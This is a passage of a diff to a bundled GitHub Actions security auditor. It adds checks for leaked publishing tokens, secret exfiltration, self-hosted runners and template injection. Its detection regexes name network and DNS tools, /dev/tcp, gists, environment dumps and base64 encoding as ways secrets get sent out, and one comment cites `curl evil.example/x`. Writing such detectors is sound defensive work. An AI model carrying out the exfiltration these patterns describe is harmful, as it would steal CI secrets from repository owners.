                     const registry = registryOf(name);
                     // a credential reaches a step that publishes, or is handed to a step by name
@@ -34487,9 +38376,18 @@ const use_trusted_publishing_rule = {
                     if (m && viaSecret) {
                         add(ctx.finding({ message: `${code(m[1])} is given a long-lived token (${code(ref)}) on the command line`, fix: fix('the registry'), ...atStep(s, step.run.pos) }));
                     }
-                    const npmrc = /_authToken\s*=\s*["']?(\$\{\{[^}]*\}\}|\$\{?\w+\}?)/.exec(run);
+                    // `.npmrc` lines and `npm config set //registry/:_authToken TOKEN` alike
+                    const npmrc = /_authToken["']?(?:\s*=\s*|\s+)["']?(\$\{\{(?:(?!\$\{\{)[^}])*\}\}|\$\{?\w+\}?)/.exec(run);
                     if (npmrc && (secretNames(npmrc[1]).length || vars.has(npmrc[1].replace(/^\$\{?|\}?$/g, '')))) {
                         add(ctx.finding({ message: `the script writes an npm token (${code(npmrc[1])}) into \`.npmrc\``, fix: fix('npm'), ...atStep(s, step.run.pos) }));
+                    }
+                    // a credentials file written for a later step: `~/.pypirc`, `~/.gem/credentials`, cargo's
+                    const file = /\.pypirc\b|\.gem\/credentials\b|\.cargo\/credentials(?:\.toml)?\b/.exec(run);
+                    if (file) {
+                        const fileRef = /(?:(?:password|token)\s*[=:]|:rubygems_api_key:)\s*["']?(\$\{\{(?:(?!\$\{\{)[^}])*\}\}|\$\{?\w+\}?)/i.exec(run);
+                        if (fileRef && (secretNames(fileRef[1]).length || vars.has(fileRef[1].replace(/^\$\{?|\}?$/g, '')))) {
+                            add(ctx.finding({ message: `the script writes a long-lived token (${code(fileRef[1])}) into \`${file[0]}\` for a later step`, fix: fix('the registry'), ...atStep(s, step.run.pos) }));
+                        }
                     }
                 }
             }
@@ -34500,7 +38398,7 @@ const use_trusted_publishing_rule = {
 /** `setup-node` pointed at a registry other than npmjs.org: NODE_AUTH_TOKEN is for that registry. */
 function npmNotPublic(steps) {
     const url = steps.map((s) => (isAction(s, 'actions/setup-node') ? input(s, 'registry-url') : undefined)).find((u) => u);
-    return !!url && !/registry\.npmjs\.org/.test(url);
+    return !!url && !/registry\.npmjs\.org/i.test(url);
 }
 
 ;// CONCATENATED MODULE: ./src/audits/secret-exfiltration.ts
@@ -34515,16 +38413,59 @@ function npmNotPublic(steps) {
 
 
 
-const NETWORK = /(^|[\s;&|(`$])(curl|wget|nc|ncat|netcat|socat|telnet|scp|sftp|ftp|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b|\/dev\/(tcp|udp)\/|\b(python3?|node|ruby|perl)\s+-[ce]\b[^\n]*(requests|urllib|http\.client|socket|fetch\(|https?\.request|Net::HTTP|LWP)/;
+
+const NETWORK = /(^|[\s;&|(`$])(curl|wget|nc|ncat|netcat|socat|telnet|scp|sftp|ftp|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b|\/dev\/(tcp|udp)\/|\b(python3?|node|ruby|perl)\s+-[ce]\b(?:(?!\b(?:python3?|node|ruby|perl)\s)[^\n])*(requests|urllib|http\.client|socket|fetch\(|https?\.request|Net::HTTP|LWP)/;
+/** A name looked up in DNS goes to every resolver on the way: a secret in it is sent. */
+const DNS = /(^|[\s;&|(`$])(nslookup|dig|host|drill|resolvectl\s+query|getent\s+(?:hosts|ahosts))\s/;
+/** A gist, public or "secret", is readable by anyone with its URL. */
+const GIST = /\bgh\s+gist\s+(?:create|edit)\b/;
+/** Script shells whose text is a program: HTTP calls in them. */
+const SCRIPT_SHELL = /^(?:python3?|node|pwsh|powershell)\b/i;
+const SCRIPT_HTTP = /\b(?:requests\.|urllib|http\.client|httpx|aiohttp|socket\.|fetch\(|https?\.(?:request|get)\(|axios|Invoke-WebRequest|Invoke-RestMethod|iwr\b|irm\b|Net\.WebClient|HttpClient)/i;
 const ENCODE = /\|\s*(base64|xxd|od\b|rev\b|gzip|openssl\s+enc)/;
+/**
+ * Does the encoder's output reach the log? Not when it goes into a file (`> cert.p12`,
+ * `-o`/`--output`) or into another command (`| gpg --import`, `| wc -c`): decoding a signing
+ * certificate into a file is GitHub's own recipe, not a leak.
+ */
+function encodedToLog(line) {
+    const m = ENCODE.exec(line);
+    if (!m)
+        return false;
+    const rest = line.slice(m.index + m[0].length);
+    return !(/(?:^|[^>&0-9])>>?\s*[^&\s]/.test(rest) || /\s(?:-o|--output|-out)(?:[\s=]|$)/.test(rest) || rest.includes('|'));
+}
 const ENV_DUMP = /(^|[;&|(]\s*)(env|printenv|set|export\s+-p|Get-ChildItem\s+env:|gci\s+env:|dir\s+env:)\s*(\||>)|\/proc\/[^\s/]+\/environ/;
 /**
- * Hosts a release legitimately sends a credential to: GitHub and the registries themselves.
- * A secret sent anywhere else, or to a host written as an IP address, is reported.
+ * Hosts a release legitimately sends a credential to: GitHub's API and the registries
+ * themselves. No shared hosting: anyone can own a bucket under `amazonaws.com`, a Slack
+ * webhook or a `githubusercontent.com` URL. A secret sent anywhere else, or to a host written
+ * as an IP address, is reported.
  */
-const KNOWN_HOSTS = /^(([\w-]+\.)*github\.com|([\w-]+\.)*githubusercontent\.com|ghcr\.io|(upload\.|test\.)?pypi\.org|registry\.npmjs\.org|crates\.io|rubygems\.org|api\.nuget\.org|([\w-]+\.)*docker\.io|quay\.io|anaconda\.org|api\.anaconda\.org|codecov\.io|([\w-]+\.)?coveralls\.io|hooks\.slack\.com|([\w-]+\.)*amazonaws\.com)$/i;
+const KNOWN_HOSTS = /^((api\.|uploads\.)?github\.com|ghcr\.io|(upload\.|test\.)?pypi\.org|registry\.npmjs\.org|crates\.io|rubygems\.org|api\.nuget\.org|([\w-]+\.)*docker\.io|quay\.io|anaconda\.org|api\.anaconda\.org|codecov\.io|([\w-]+\.)?coveralls\.io)$/i;
+/** Files a command names that are not hosts (`curl -T dist/x.tar.gz`). */
+const FILE_EXT = /\.(?:json|txt|tar|gz|tgz|zip|whl|sh|py|js|mjs|cjs|ts|md|ya?ml|toml|lock|cfg|ini|xml|html?|pem|crt|key|asc|sig|log|csv|bin|exe|deb|rpm|jar|gem|nupkg|crate)$/i;
+/**
+ * Where a line sends things: URLs with a scheme, a proxy (`-x`, `--proxy`: all traffic goes
+ * through it), and, for curl and wget, a host written without a scheme (`curl evil.example/x`).
+ * Hosts compare case-insensitively.
+ */
 function hosts(line) {
-    return [...line.matchAll(/\bhttps?:\/\/([^/\s"'`:]+)/g)].map((m) => m[1]);
+    const out = [...line.matchAll(/\b[a-z][a-z0-9+.-]*:\/\/(?:[^@\s/"'`]*@)?([^/\s"'`:?#]+)/gi)].map((m) => m[1].toLowerCase());
+    // curl's `-x` is the proxy (`-X` is the method): case matters here
+    for (const m of line.matchAll(/(?:\s-x|\s--proxy|\s--preproxy|\s--socks5(?:-hostname)?)[\s=]+["']?(?:[a-zA-Z0-9+.-]+:\/\/)?(?:[^@\s/"'`]*@)?([^\s/"'`:]+)/g))
+        out.push(m[1].toLowerCase());
+    if (/(^|[\s;&|(`$])(curl|wget)\b/.test(line)) {
+        for (const tok of line.split(/\s+/)) {
+            const t = tok.replace(/^["']|["']$/g, '');
+            if (/^[-@$<>|&]/.test(t) || t.includes('://'))
+                continue;
+            const m = /^([a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,24})(?::\d+)?(?:\/\S*)?$/i.exec(t);
+            if (m && !FILE_EXT.test(m[1]))
+                out.push(m[1].toLowerCase());
+        }
+    }
+    return out;
 }
 const secret_exfiltration_rule = {
     id: 'secret-exfiltration',
@@ -34545,6 +38486,19 @@ const secret_exfiltration_rule = {
                     ...[...line.matchAll(/\$\{?([A-Za-z_]\w*)\}?/g)].map((m) => m[1]).filter((v) => secretVars.has(v)).map((v) => `$${v} (secrets.${secretVars.get(v)})`),
                 ];
                 const report = (message, fix, severity) => out.push(ctx.finding({ message, fix, ...atStep(s, s.step.run.pos), ...(severity ? { severity } : {}) }));
+                if (s.step.shell && SCRIPT_SHELL.test(s.step.shell) && SCRIPT_HTTP.test(run)) {
+                    // a program reads its variables by name (`os.environ['TOKEN']`, `process.env.TOKEN`,
+                    // `$env:TOKEN`), or all of them at once
+                    const whole = /\bos\.environ\b(?!\s*[[.(]\s*(?:get\s*\()?\s*["'])|\bprocess\.env\b(?!\s*[.[])|\benv:\s*(?:[|)]|$)|Get-ChildItem\s+env:/i.test(run);
+                    const named = [...secretVars].filter(([v]) => whole || new RegExp(`\\b${v.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\b`).test(run)).map(([v, n]) => `${v} (secrets.${n})`);
+                    const sec = [...new Set([...refs(run.replace(/\n/g, ' ')), ...named])];
+                    const hs = hosts(run);
+                    const foreign = hs.filter((h) => !KNOWN_HOSTS.test(h) || /^\d+\.\d+\.\d+\.\d+$/.test(h));
+                    if (sec.length && (hs.length === 0 || foreign.length)) {
+                        report(`the \`shell: ${s.step.shell}\` script makes HTTP calls with ${sec.map((x) => code(x)).join(', ')} in reach${foreign.length ? `, to ${foreign.map((h) => code(h)).join(', ')}` : ', to an address decided at run time'}`, 'Remove the request, and rotate the secret if this ran: a release job has no reason to send a secret anywhere but the service it belongs to.');
+                    }
+                    continue;
+                }
                 for (const line of logicalLines(run)) {
                     const sec = refs(line);
                     if (ENV_DUMP.test(line) && (NETWORK.test(line) || ENCODE.test(line) || />/.test(line))) {
@@ -34553,15 +38507,23 @@ const secret_exfiltration_rule = {
                     }
                     if (sec.length === 0)
                         continue;
+                    if (DNS.test(line)) {
+                        report(`the script puts ${sec.map((x) => code(x)).join(', ')} in a DNS lookup (${code(line.slice(0, 80))}): every resolver on the way receives it`, 'Remove the lookup, and rotate the secret if this ran.');
+                        continue;
+                    }
+                    if (GIST.test(line)) {
+                        report(`the script puts ${sec.map((x) => code(x)).join(', ')} in a gist, which anyone with its URL can read`, 'Remove the step, and rotate the secret if this ran.');
+                        continue;
+                    }
                     if (NETWORK.test(line)) {
                         const hs = hosts(line);
-                        const foreign = hs.filter((h) => !KNOWN_HOSTS.test(h) || /^\d+\.\d+\.\d+\.\d+$/.test(h));
+                        const foreign = hs.filter((h) => (!KNOWN_HOSTS.test(h) && !ownService(h, sec)) || /^\d+\.\d+\.\d+\.\d+$/.test(h));
                         if (hs.length && foreign.length === 0)
                             continue;
                         const known = foreign.length > 0;
                         report(`the script sends ${sec.map((x) => code(x)).join(', ')} over the network${known ? ` to ${foreign.map((h) => code(h)).join(', ')}` : ' to an address decided at run time'}`, 'Remove the request, and rotate the secret if this ran: a release job has no reason to send a secret anywhere but the service it belongs to.', known ? undefined : 'warning');
                     }
-                    else if (ENCODE.test(line)) {
+                    else if (ENCODE.test(line) && encodedToLog(line)) {
                         report(`the script encodes ${sec.map((x) => code(x)).join(', ')} (${code(line.slice(0, 80))}), which defeats the log masking`, 'Never print or encode a secret; pass it to the tool that needs it through an environment variable.');
                     }
                     else if (uploads && writesIntoWorkspace(line)) {
@@ -34573,6 +38535,10 @@ const secret_exfiltration_rule = {
         return out;
     },
 };
+/** Is the host the service every secret on the line belongs to (a Slack webhook to Slack)? */
+function ownService(host, secrets) {
+    return secrets.length > 0 && secrets.every((x) => SECRET_SERVICES.some((sv) => sv.secret.test(x) && sv.host.test(host)));
+}
 function boundSecrets(s) {
     const m = new Map();
     for (const env of [s.wf.env, s.job.env, s.step.env]) {
@@ -34633,107 +38599,6 @@ const secrets_inherit_rule = {
     },
 };
 
-;// CONCATENATED MODULE: ./src/workflow/matrix.ts
-
-
-const MAX_LEGS = 256;
-function same(a, b) {
-    return JSON.stringify(a) === JSON.stringify(b);
-}
-function matrixLegs(job) {
-    const m = get(job.strategy, 'matrix');
-    if (!m)
-        return [{}];
-    const raw = toJS(m);
-    if (!raw || typeof raw !== 'object' || Array.isArray(raw))
-        return undefined;
-    const obj = raw;
-    let legs = [{}];
-    const base = [];
-    for (const [k, v] of Object.entries(obj)) {
-        if (k === 'include' || k === 'exclude')
-            continue;
-        if (!Array.isArray(v))
-            return undefined; // an expression (fromJSON) or a malformed matrix
-        base.push(k);
-        const next = [];
-        for (const l of legs)
-            for (const x of v)
-                next.push({ ...l, [k]: x });
-        if (next.length > MAX_LEGS)
-            return undefined;
-        legs = next;
-    }
-    if (base.length === 0)
-        legs = [];
-    const exclude = obj.exclude;
-    if (Array.isArray(exclude)) {
-        legs = legs.filter((l) => !exclude.some((e) => e && typeof e === 'object' && Object.entries(e).every(([k, v]) => same(l[k], v))));
-    }
-    const include = obj.include;
-    if (Array.isArray(include)) {
-        for (const inc of include) {
-            if (!inc || typeof inc !== 'object')
-                continue;
-            const e = inc;
-            const matching = legs.filter((l) => Object.entries(e).every(([k, v]) => !base.includes(k) || same(l[k], v)));
-            const extendable = matching.filter((l) => Object.keys(e).every((k) => !(k in l) || base.includes(k) || same(l[k], e[k])));
-            if (base.length > 0 && extendable.length > 0)
-                for (const l of extendable)
-                    Object.assign(l, e);
-            else
-                legs.push({ ...e });
-            if (legs.length > MAX_LEGS)
-                return undefined;
-        }
-    }
-    return legs.length ? legs : [{}];
-}
-/** Resolve `matrix.*` against one leg; everything else unknown. */
-function legResolver(leg) {
-    return (path) => {
-        if (!path.startsWith('matrix.'))
-            return UNKNOWN;
-        let v = leg;
-        for (const part of path.slice(7).split('.')) {
-            if (!v || typeof v !== 'object' || !(part in v))
-                return v === leg ? known(null) : UNKNOWN;
-            v = v[part];
-        }
-        if (v === null || typeof v === 'string' || typeof v === 'number' || typeof v === 'boolean')
-            return known(v);
-        return UNKNOWN;
-    };
-}
-/**
- * The value of a text with `${{ }}` in one leg: the expression's value when the text is one
- * expression, else the text with each expression replaced. Undefined when unknown.
- */
-function evalText(text, resolve) {
-    const ex = findExpressions(text);
-    if (ex.length === 0)
-        return text;
-    try {
-        if (ex.length === 1 && ex[0].full === text.trim()) {
-            const v = evaluate(parseExpr(ex[0].inner), resolve);
-            return v.t === 'known' ? v.v : undefined;
-        }
-        let out = '';
-        let last = 0;
-        for (const e of ex) {
-            const v = evaluate(parseExpr(e.inner), resolve);
-            if (v.t !== 'known')
-                return undefined;
-            out += text.slice(last, e.offset) + (v.v === null ? '' : String(v.v));
-            last = e.offset + e.full.length;
-        }
-        return out + text.slice(last);
-    }
-    catch {
-        return undefined;
-    }
-}
-
 ;// CONCATENATED MODULE: ./src/audits/self-hosted-runner.ts
 /**
  * self-hosted-runner: a job that builds or publishes a release on a self-hosted runner shares
@@ -34753,22 +38618,65 @@ function labelsOf(v) {
         return v.flatMap(labelsOf);
     return [];
 }
+function globRe(glob) {
+    return new RegExp(`^${glob.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '.*')}$`, 'i');
+}
+function allowedBy(allow, label) {
+    return allow.find((a) => globRe(a.label).test(label));
+}
+/** Read `allow-labels`: a list of `label -- reason` strings or `{ label, reason }` maps. */
+function readAllowLabels(options) {
+    const v = options['allow-labels'];
+    if (v === undefined || v === null)
+        return [];
+    if (!Array.isArray(v))
+        return '`allow-labels` must be a list of `label -- reason` entries';
+    const out = [];
+    for (const it of v) {
+        if (typeof it === 'string') {
+            const i = it.indexOf(' -- ');
+            if (i < 0 || !it.slice(i + 4).trim())
+                return `allow-labels entry '${it}' needs a reason: \`${it.trim()} -- why this runner is safe to release from\``;
+            out.push({ label: it.slice(0, i).trim(), reason: it.slice(i + 4).trim() });
+        }
+        else if (it && typeof it === 'object' && typeof it.label === 'string') {
+            const { label, reason } = it;
+            if (typeof reason !== 'string' || !reason.trim())
+                return `allow-labels entry '${label}' needs a \`reason:\``;
+            out.push({ label, reason });
+        }
+        else
+            return 'allow-labels entries are `label -- reason` strings or `{ label, reason }` mappings';
+        if (!out[out.length - 1].label)
+            return 'an allow-labels entry has an empty label';
+    }
+    return out;
+}
 /** Judge one set of labels (one matrix leg). */
-function self_hosted_runner_judge(labels) {
-    if (labels.some((l) => l.toLowerCase() === 'self-hosted'))
+function self_hosted_runner_judge(labels, allow) {
+    const open = labels.filter((l) => !allowedBy(allow, l));
+    if (open.length === 0)
+        return undefined;
+    if (open.some((l) => l.toLowerCase() === 'self-hosted'))
         return { kind: 'self-hosted', message: `runs on a self-hosted runner (${labels.map((l) => code(l)).join(', ')})` };
-    const odd = labels.filter((l) => !HOSTED_LABEL.test(l));
+    const services = open.map((l) => [l, runnerService(l)]).filter(([, s]) => s);
+    if (services.length) {
+        const [l, s] = services[0];
+        return { kind: 'self-hosted', message: `runs on ${code(l)}, a ${s} runner: a machine outside GitHub, self-hosted as far as GitHub is concerned` };
+    }
+    const odd = open.filter((l) => !isHostedLabel(l));
     if (odd.length)
-        return { kind: 'unlisted', message: `runs on ${odd.map((l) => code(l)).join(', ')}, which ${odd.length > 1 ? 'are not GitHub-hosted image labels' : 'is not a GitHub-hosted image label'}: a self-hosted runner or a larger runner` };
+        return { kind: 'unlisted', message: `runs on ${odd.map((l) => code(l)).join(', ')}, which ${odd.length > 1 ? 'are not labels' : 'is not a label'} of GitHub's hosted runners (standard or larger): a self-hosted runner` };
     return undefined;
 }
-function check(job, node) {
+function check(job, node, allow) {
     if (node.kind === 'map') {
         const group = get(node, 'group');
-        if (group)
-            return [{ kind: 'group', message: `runs in the runner group ${code(String(toJS(group)))}, which holds self-hosted or larger runners` }];
+        const name = group ? String(toJS(group)) : undefined;
+        if (name !== undefined && !allowedBy(allow, name))
+            return [{ kind: 'group', message: `runs in the runner group ${code(name)}, which holds self-hosted or larger runners` }];
         const labels = get(node, 'labels');
-        return labels ? check(job, labels) : [];
+        return labels ? check(job, labels, allow) : [];
     }
     const texts = labelsOf(toJS(node));
     const dynamic = texts.filter((t) => t.includes('${{'));
@@ -34786,7 +38694,7 @@ function check(job, node) {
             }
             labels.push(...ls);
         }
-        const v = labels ? self_hosted_runner_judge(labels) : { kind: 'dynamic', message: `chooses its runner with ${dynamic.map((d) => code(d)).join(', ')}, which cannot be decided before the run`, severity: 'warning' };
+        const v = labels ? self_hosted_runner_judge(labels, allow) : { kind: 'dynamic', message: `chooses its runner with ${dynamic.map((d) => code(d)).join(', ')}, which cannot be decided before the run`, severity: 'warning' };
         if (v && !seen.has(v.message)) {
             out.push(v);
             seen.add(v.message);
@@ -34798,8 +38706,17 @@ const self_hosted_runner_rule = {
     id: 'self-hosted-runner',
     title: 'job runs on a self-hosted runner',
     severity: 'error',
+    options: {
+        'allow-labels': 'runner labels or groups (`*` globs) the organisation vouches for, each `label -- reason`: its own larger runners, or an isolated, ephemeral self-hosted pool',
+    },
+    validate(options) {
+        const r = readAllowLabels(options);
+        return typeof r === 'string' ? r : undefined;
+    },
     check(ctx) {
         const out = [];
+        const allowed = readAllowLabels(ctx.options);
+        const allow = typeof allowed === 'string' ? [] : allowed;
         const runtime = ctx.runtime?.runnerEnvironment;
         const gateJobs = new Set(ctx.scope.mode === 'gate' ? ctx.scope.targets.map((j) => j.id) : []);
         for (const site of jobSites(ctx.workflow, ctx.scope, ctx.local)) {
@@ -34815,13 +38732,15 @@ const self_hosted_runner_rule = {
             }
             if (!job.runsOn)
                 continue;
-            for (const v of check(job, job.runsOn)) {
+            for (const v of check(job, job.runsOn, allow)) {
                 // A label GitHub does not list, on a job the runner says is GitHub-hosted: a larger runner.
                 if (here && runtime === 'github-hosted' && (v.kind === 'unlisted' || v.kind === 'dynamic'))
                     continue;
                 out.push(ctx.finding({
                     message: `job ${code(job.id)} ${v.message}`,
-                    fix: 'Build and publish on GitHub-hosted runners (`runs-on: ubuntu-latest`), which are fresh for every job; keep self-hosted runners away from release jobs and from pull requests of forks.',
+                    fix: v.kind === 'unlisted' || v.kind === 'group'
+                        ? 'Build and publish on GitHub-hosted runners (`runs-on: ubuntu-latest`), which are fresh for every job. If this label is a larger GitHub-hosted runner or an isolated, ephemeral pool of your organisation, list it under `rules.self-hosted-runner.config.allow-labels` in `.github/release-gate.yml` with the reason.'
+                        : 'Build and publish on GitHub-hosted runners (`runs-on: ubuntu-latest`), which are fresh for every job; keep self-hosted runners away from release jobs and from pull requests of forks.',
                     ...atJob(site, job.runsOn.pos ?? job.pos),
                     ...(v.severity ? { severity: v.severity } : {}),
                 }));
@@ -34831,11 +38750,208 @@ const self_hosted_runner_rule = {
     },
 };
 
+;// CONCATENATED MODULE: ./src/workflow/taint.ts
+/**
+ * Where text an outsider chooses can flow before it is expanded into a script: through `env:`
+ * at the workflow, job and step levels, through a local composite action's `inputs.*` bound by
+ * the calling step's `with:` (or the input's default), through a local reusable workflow's
+ * `inputs.*` bound by the calling job's `with:`, and through a matrix built from such values.
+ * The attacker-controlled contexts are the catalogue's (`ATTACKER_CONTEXTS`).
+ *
+ * Values are followed as written: `${{ env.X }}` carries what `env.X` was given. What a shell
+ * does with an environment variable (`"$X"`) is not expansion and is not followed.
+ */
+
+
+
+
+
+/** Types of a workflow's `inputs.<name>` (workflow_dispatch / workflow_call), by lower-case name. */
+function inputType(wf, name) {
+    for (const t of wf.triggers) {
+        if (t.event !== 'workflow_dispatch' && t.event !== 'workflow_call')
+            continue;
+        const defs = get(t.config, 'inputs');
+        if (defs?.kind !== 'map')
+            continue;
+        for (const p of defs.pairs)
+            if (String(p.key.value).toLowerCase() === name)
+                return str(get(p.value, 'type')) ?? 'string';
+    }
+    return undefined;
+}
+function hop(sources, via) {
+    return sources.map((s) => ({ ...s, via: [...s.via, via] }));
+}
+function union(m) {
+    return [...m.values()].flat();
+}
+/** The sources one context path reads, in a scope. */
+function pathSources(raw, sc) {
+    const path = raw.toLowerCase();
+    if (catalogue_ATTACKER_CONTEXTS.some((re) => re.test(path)) || ATTACKER_OBJECTS.test(path))
+        return [{ kind: 'attacker', path: raw, via: [] }];
+    const parts = path.split('.');
+    if (parts[0] === 'env')
+        return parts.length === 1 ? hop(union(sc.env), 'env') : hop(sc.env.get(parts[1]) ?? [], `env.${raw.split('.')[1]}`);
+    if (parts[0] === 'matrix') {
+        if (parts.length === 1)
+            return hop([...union(sc.matrix), ...sc.matrixAll], 'matrix');
+        return hop([...(sc.matrix.get(parts[1]) ?? []), ...sc.matrixAll], `matrix.${raw.split('.')[1]}`);
+    }
+    const inputName = parts[0] === 'inputs' ? parts[1] : parts[0] === 'github' && parts[1] === 'event' && parts[2] === 'inputs' ? parts[3] : undefined;
+    const isInputs = parts[0] === 'inputs' || (parts[0] === 'github' && parts[1] === 'event' && parts[2] === 'inputs');
+    if (isInputs) {
+        if (sc.inputs) {
+            const via = inputName ? `inputs.${raw.split('.').slice(parts[0] === 'inputs' ? 1 : 3)[0]}` : 'inputs';
+            return hop(inputName ? (sc.inputs.get(inputName) ?? []) : union(sc.inputs), via);
+        }
+        if (sc.wf.kind === 'workflow' && inputName) {
+            const t = inputType(sc.wf, inputName);
+            if (t === undefined || t === 'string')
+                return [{ kind: 'input', path: raw, via: [] }];
+        }
+    }
+    return [];
+}
+/** The sources of one `${{ }}`. */
+function exprSources(e, sc) {
+    const paths = e.expr ? contextRefs(e.expr) : [...e.inner.matchAll(/[a-z_][\w.*-]*/gi)].map((m) => m[0]);
+    return paths.flatMap((p) => pathSources(p, sc));
+}
+/** The sources of every `${{ }}` under a node. */
+function nodeSources(node, sc) {
+    if (!node)
+        return [];
+    return exprsIn(sc.wf, node).flatMap((e) => exprSources(e, sc));
+}
+function envScope(base, env, sc) {
+    if (env.size === 0)
+        return base;
+    const out = new Map(base);
+    // a level's values are read with the levels above it (and its own keys as given before it)
+    for (const [k, v] of env)
+        out.set(k.toLowerCase(), nodeSources(v, { ...sc, env: out }));
+    return out;
+}
+function matrixScope(job, sc) {
+    const m = get(job.strategy, 'matrix');
+    const matrix = new Map();
+    if (!m)
+        return { matrix, matrixAll: [] };
+    if (m.kind !== 'map')
+        return { matrix, matrixAll: nodeSources(m, sc) };
+    const add = (k, s) => {
+        if (s.length)
+            matrix.set(k.toLowerCase(), [...(matrix.get(k.toLowerCase()) ?? []), ...s]);
+    };
+    for (const p of m.pairs) {
+        const key = String(p.key.value);
+        if (key === 'include' || key === 'exclude') {
+            if (key === 'exclude')
+                continue;
+            if (p.value.kind !== 'seq') {
+                const all = nodeSources(p.value, sc);
+                if (all.length)
+                    return { matrix, matrixAll: all };
+                continue;
+            }
+            for (const item of p.value.items) {
+                if (item.kind === 'map')
+                    for (const q of item.pairs)
+                        add(String(q.key.value), nodeSources(q.value, sc));
+                else
+                    add('*', nodeSources(item, sc));
+            }
+            continue;
+        }
+        add(key, nodeSources(p.value, sc));
+    }
+    const star = matrix.get('*') ?? [];
+    return { matrix, matrixAll: star };
+}
+/** An input the caller does not give takes its default, read where the action runs. */
+function withDefaults(action, inputs, caller) {
+    const defs = get(action.yaml.root, 'inputs');
+    if (defs?.kind !== 'map')
+        return inputs;
+    for (const p of defs.pairs) {
+        const k = String(p.key.value).toLowerCase();
+        if (!inputs.has(k))
+            inputs.set(k, nodeSources(get(p.value, 'default'), { ...caller, wf: action, inputs: new Map() }));
+    }
+    return inputs;
+}
+/** Every step of the jobs, through local reusable workflows and composite actions, with its scope. */
+function taintedSteps(wf, jobs, local) {
+    const out = [];
+    const visitSteps = (steps, job, sc, chain, topJob, topStep, depth) => {
+        for (const step of steps) {
+            const own = { ...sc, env: envScope(sc.env, step.env, sc) };
+            const t = topStep ?? step;
+            out.push({ step, job, scope: own, chain, top: { job: topJob, step: t } });
+            const u = step.uses?.parsed;
+            if (!u || u.kind !== 'local' || u.reusableWorkflow || depth >= MAX_COMPOSITE_DEPTH)
+                continue;
+            const action = localAction(local, u.path);
+            if (!action || action.runs?.using !== 'composite' || action === sc.wf)
+                continue;
+            const inputs = new Map();
+            for (const [k, v] of step.with)
+                inputs.set(k.toLowerCase(), nodeSources(v, own));
+            withDefaults(action, inputs, own);
+            const inner = { wf: action, env: own.env, inputs, matrix: own.matrix, matrixAll: own.matrixAll };
+            visitSteps(action.jobs[0]?.steps ?? [], job, inner, [...chain, ...(chain.length ? [] : [job.id]), step.uses.value], topJob, t, depth + 1);
+        }
+    };
+    const visitJob = (job, file, chain, inputs, topJob, depth) => {
+        const base = { wf: file, env: new Map(), ...(inputs ? { inputs } : {}), matrix: new Map(), matrixAll: [] };
+        const wfEnv = envScope(new Map(), file.env, base);
+        const withMatrix = { ...base, env: wfEnv, ...matrixScope(job, { ...base, env: wfEnv }) };
+        const jobScope = { ...withMatrix, env: envScope(wfEnv, job.env, withMatrix) };
+        const u = job.uses?.parsed;
+        if (u && u.kind === 'local' && u.reusableWorkflow && depth < MAX_COMPOSITE_DEPTH) {
+            const called = local.get(u.path);
+            if (called && called !== file) {
+                const bound = new Map();
+                for (const [k, v] of job.with)
+                    bound.set(k.toLowerCase(), nodeSources(v, jobScope));
+                for (const j of called.jobs)
+                    visitJob(j, called, [...chain, job.id, job.uses.value], bound, topJob ?? job, depth + 1);
+            }
+            return;
+        }
+        visitSteps(job.steps, job, jobScope, chain, topJob ?? job, undefined, 0);
+    };
+    if (wf.kind === 'action') {
+        // an action file audited alone: its inputs are its defaults (the caller is not known)
+        const none = { wf, env: new Map(), matrix: new Map(), matrixAll: [] };
+        const sc = { ...none, inputs: withDefaults(wf, new Map(), none) };
+        for (const j of jobs)
+            visitSteps(j.steps, j, sc, [], j, undefined, 0);
+        return out;
+    }
+    for (const j of jobs)
+        visitJob(j, wf, [], undefined, undefined, 0);
+    return out;
+}
+/** The sources of a scalar's expressions, each with its site. */
+function scalarTaint(node, sc) {
+    if (node.kind !== 'scalar')
+        return [];
+    return exprsInScalar(sc.wf, node).map((site) => ({ site, sources: exprSources(site, sc) }));
+}
+
 ;// CONCATENATED MODULE: ./src/audits/template-injection.ts
 /**
  * template-injection: `${{ }}` is pasted into a script before the shell sees it. When the value
  * is text an outsider writes (a pull request title, a branch name, a commit message), the
  * outsider writes the script (the Ultralytics and nx compromises).
+ *
+ * Sinks are `run:` and the action inputs the catalogue says run code (`sinks`). Values are
+ * followed through `env:`, composite and reusable-workflow inputs and matrices (`taint.ts`).
+ * Severity is by who can start the run: an error when an outsider's text reaches a step that
+ * an event outsiders trigger runs with the repository's secrets, a warning otherwise.
  */
 
 
@@ -34843,43 +38959,10 @@ const self_hosted_runner_rule = {
 
 
 
-
-
-/** Context paths whose text an outsider chooses (from GitHub's webhook payloads). */
-const ATTACKER_CONTROLLED = [
-    /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
-    /^github\.event\.(comment|review|review_comment)\.body$/,
-    /^github\.event\.pull_request\.head\.(ref|label)$/,
-    /^github\.event\.pull_request\.head\.repo\.(default_branch|description|name|full_name|homepage)$/,
-    /^github\.head_ref$/,
-    /^github\.event\.(commits\.\*|head_commit|commits\.\d+)\.(message|author\.(name|email)|committer\.(name|email))$/,
-    /^github\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(name|email)|committer\.(name|email))|head_repository\.description)$/,
-    /^github\.event\.workflow_run\.pull_requests\.\*\.head\.ref$/,
-    /^github\.event\.pages\.\*\.page_name$/,
-    /^github\.event\.(issue|pull_request)\.labels\.\*\.name$/,
-    /^github\.event\.label\.name$/,
-];
-/** Types of a workflow's `inputs.<name>` (workflow_dispatch / workflow_call). */
-function inputType(wf, name) {
-    for (const t of wf.triggers) {
-        if (t.event !== 'workflow_dispatch' && t.event !== 'workflow_call')
-            continue;
-        const def = get(get(t.config, 'inputs'), name);
-        if (def)
-            return str(get(def, 'type')) ?? 'string';
-    }
-    return undefined;
-}
-function classify(path, wf) {
-    if (ATTACKER_CONTROLLED.some((re) => re.test(path)))
-        return { kind: 'attacker', path };
-    const m = /^(?:github\.event\.)?inputs\.([\w-]+)$/.exec(path);
-    if (m && wf.kind === 'workflow') {
-        const t = inputType(wf, m[1]);
-        if (t === undefined || t === 'string')
-            return { kind: 'input', path };
-    }
-    return undefined;
+/** Context paths whose text an outsider chooses: the catalogue's. */
+const ATTACKER_CONTROLLED = (/* unused pure expression or super */ null && (ATTACKER_CONTEXTS));
+function carried(src) {
